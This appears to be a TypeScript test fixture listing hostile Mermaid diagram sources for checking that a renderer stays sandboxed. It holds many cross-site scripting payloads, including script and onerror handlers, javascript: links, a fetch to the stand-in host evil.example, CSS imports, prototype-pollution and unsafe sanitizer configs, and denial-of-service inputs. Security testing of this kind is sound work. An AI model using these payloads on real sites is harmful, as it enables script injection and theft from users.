/** Diagrams meant to do harm, for the frame they are drawn in. Whatever runs would set `pwned` or ask evil.example. */

const EVIL = 'https://evil.example/x';
const RUN = "parent.pwned=1;top.pwned=1;alert(1);fetch('https://evil.example/run')";
const IMAGE = `<img src="${EVIL}.png" onerror="${RUN}">`;
const SCRIPT = `<script>${RUN}</script>`;
const SVG = `<svg onload="${RUN}"></svg>`;
const FRAME = `<iframe srcdoc="<script>${RUN}</script>"></iframe>`;

const LABELS = [
  SCRIPT,
  IMAGE,
  SVG,
  FRAME,
  `<a href="javascript:${RUN}">x</a>`,
  `<style>@import url(${EVIL}.css)</style>`,
  `<object data="${EVIL}"></object>`,
  `<math><mtext><img src=${EVIL}></mtext></math>`,
  `&lt;img src=${EVIL} onerror=alert(1)&gt;`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `$$\\htmlData{x=1}{\\includegraphics{${EVIL}.png}}$$`,
  `\`**md** ![a](${EVIL}.png) [b](javascript:${RUN})\``,
];

const flow = (lines: string): string => `flowchart LR\n${lines}`;
const quoted = (label: string): string => label.replaceAll('"', "'");

const INIT = [
  '{"securityLevel": "loose"}',
  '{"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}',
  `{"theme": "base", "themeCSS": "@import url(${EVIL}.css); * {background: url(${EVIL}.png)}"}`,
  `{"themeVariables": {"primaryColor": "red;}*{background:url(${EVIL}.png)}"}}`,
  `{"fontFamily": "x;}</style>${SCRIPT.replaceAll('"', "'")}"}`,
  '{"maxTextSize": 99999999, "maxEdges": 99999999}',
  '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}',
  '{"secure": []}',
  `{"dompurifyConfig": {"ADD_TAGS": ["script", "iframe"], "ADD_ATTR": ["onload", "onerror"]}}`,
  `{"deterministicIDSeed": "\\"><img src=${EVIL}>"}`,
];

const CLICKS = [
  `click a href "javascript:${RUN}"`,
  `click a "javascript:${RUN}" _top`,
  `click a href "data:text/html,<script>${RUN}</script>" _blank`,
  `click a href "${EVIL}" _top`,
  `click a href "/api/auth/logout" _parent`,
  'click a alert',
  `click a call alert(1)`,
  `click a call eval("${quoted(RUN)}")`,
  `click a href "vbscript:x"`,
  `click a href "java&#9;script:${RUN}"`,
];

const OTHERS = [
  `sequenceDiagram\n  participant a as ${SCRIPT}\n  a->>a: ${IMAGE}`,
  `sequenceDiagram\n  participant a\n  links a: {"x": "javascript:${quoted(RUN)}", "y": "${EVIL}"}\n  a->>a: hi`,
  `sequenceDiagram\n  Note over a: ${SVG}`,
  `classDiagram\n  class A["${quoted(IMAGE)}"]\n  link A "javascript:${quoted(RUN)}" "x"`,
  `classDiagram\n  class A\n  callback A "alert" "x"`,
  `stateDiagram-v2\n  a: ${SCRIPT}\n  a --> b : ${IMAGE}`,
  `stateDiagram-v2\n  a --> b\n  click a href "javascript:${quoted(RUN)}"`,
  `erDiagram\n  A ||--o{ B : "${quoted(SVG)}"`,
  `gantt\n  title ${IMAGE}\n  section s\n  a :a1, 2026-01-01, 1d\n  click a1 href "javascript:${quoted(RUN)}"`,
  `gantt\n  dateFormat YYYY\n  axisFormat ${SCRIPT}\n  a :a1, 2026, 1d`,
  `pie title ${IMAGE}\n  "${quoted(SCRIPT)}" : 1`,
  `journey\n  title ${SVG}\n  section s\n  ${quoted(IMAGE)}: 5: me`,
  `mindmap\n  root((${SCRIPT}))\n    ${IMAGE}`,
  `timeline\n  title ${IMAGE}\n  2026 : ${SCRIPT}`,
  `gitGraph\n  commit id: "${quoted(IMAGE)}"`,
  `quadrantChart\n  title ${IMAGE}\n  ${quoted(SVG)}: [0.1, 0.2]`,
  `kanban\n  todo[${quoted(SCRIPT)}]\n    a[${quoted(IMAGE)}]@{ ticket: x }`,
  `requirementDiagram\n  requirement a {\n  id: 1\n  text: ${quoted(IMAGE)}\n  }`,
  `---\ntitle: ${quoted(SCRIPT)}\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\n${flow('  a[x] --> b')}`,
  `---\nconfig: !!js/function "function(){${quoted(RUN)}}"\n---\n${flow('  a --> b')}`,
];

const LARGE = [
  flow(Array.from({ length: 400 }, (_unused, i) => `  a${i} --> a${i + 1}`).join('\n')),
  `sequenceDiagram\n${Array.from({ length: 500 }, () => '  a->>b: x').join('\n')}`,
  'flowchart LR\n  a --> --> -->',
  'not a diagram at all',
  '',
  '%%{init: {"a": "%%{init',
];

/** Each source once. */
export const HOSTILE_DIAGRAMS: readonly string[] = [
  ...LABELS.map((label) => flow(`  a["${quoted(label)}"] -->|"${quoted(label)}"| b`)),
  ...INIT.map((init) => `%%{init: ${init}}%%\n${flow(`  a["${quoted(IMAGE)}"] --> b`)}`),
  ...CLICKS.map((click) => flow(`  a --> b\n  ${click}`)),
  flow(`  a@{ img: "${EVIL}.png", label: "x", pos: "t", w: 60, h: 60 }\n  a --> b`),
  flow(`  a@{ icon: "fa:user", label: "${quoted(SVG)}" }\n  a --> b`),
  flow(`  a:::evil --> b\n  classDef evil fill:url(${EVIL}.png),background:url(${EVIL}.png)`),
  flow(`  a --> b\n  style a fill:#fff,stroke:url(${EVIL}.svg#x)`),
  flow(`  a --> b\n  linkStyle 0 stroke:url(${EVIL}.svg#x),background-image:url(${EVIL}.png)`),
  ...OTHERS,
  ...LARGE,
];

/** Within every limit and yet not drawn in any bearable time: a word that no line can be broken in. */
export const ENDLESS_DIAGRAM = flow(`  a["${'x'.repeat(19_000)}"] --> b`);
